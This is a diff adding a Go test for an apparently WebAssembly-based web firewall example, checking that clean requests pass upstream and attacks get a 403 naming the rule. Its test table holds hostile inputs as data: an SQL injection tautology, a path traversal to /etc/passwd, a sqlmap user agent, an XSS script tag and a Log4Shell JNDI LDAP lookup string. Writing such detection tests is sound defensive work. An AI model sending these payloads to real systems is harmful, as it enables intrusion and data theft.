@@ -792,3 +792,42 @@ hosts = ["abi.test"]
 		expectClosed(t, "after the chunked request", c, br)
 	})
 }
+
+// TestHTTPWasmWAF: the firewall example (guests/go/waf, the benchmark's
+// CPU-heavy guest) passes a clean request on to the upstream, with its
+// body, and answers 403 naming the rule for attacks in the target, a
+// header or the body.
+func TestHTTPWasmWAF(t *testing.T) {
+	t.Parallel()
+	wasm := guest(t, "go-waf")
+	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		fmt.Fprintf(w, "upstream: %s %s %s", r.Method, r.URL.RequestURI(), b)
+	}))
+	t.Cleanup(up.Close)
+	s := start(t, "--workers", "1", "--upstream", up.URL, wasm)
+	client := newClient()
+	if code, _, body := do(t, client, newRequest(t, "POST", s.url()+"search?q=wasm+cluster", "name=ada")); code != 200 || body != "upstream: POST /search?q=wasm+cluster name=ada" {
+		t.Fatalf("clean request: %d %q", code, body)
+	}
+	for _, c := range []struct {
+		name, path, body string
+		hdr              []string
+		rule             string
+	}{
+		{"sqli in the query", "search?q=1%27%20or%20%271%27=%271", "", nil, "sqli-tautology"},
+		{"traversal", "files/..%2f..%2fetc/passwd", "", nil, "traversal"},
+		{"scanner", "", "", []string{"User-Agent", "sqlmap/1.7"}, "scanner-agent"},
+		{"xss in the body", "comment", "<script>alert(1)</script>", nil, "xss-script"},
+		{"log4shell in a header", "", "", []string{"X-Api-Version", "${jndi:ldap://x/a}"}, "log4shell"},
+	} {
+		method := "GET"
+		if c.body != "" {
+			method = "POST"
+		}
+		code, _, body := do(t, client, newRequest(t, method, s.url()+c.path, c.body, c.hdr...))
+		if code != 403 || !strings.Contains(body, c.rule) {
+			t.Errorf("%s: %d %q, want 403 naming %s", c.name, code, body, c.rule)
+		}
+	}
+}
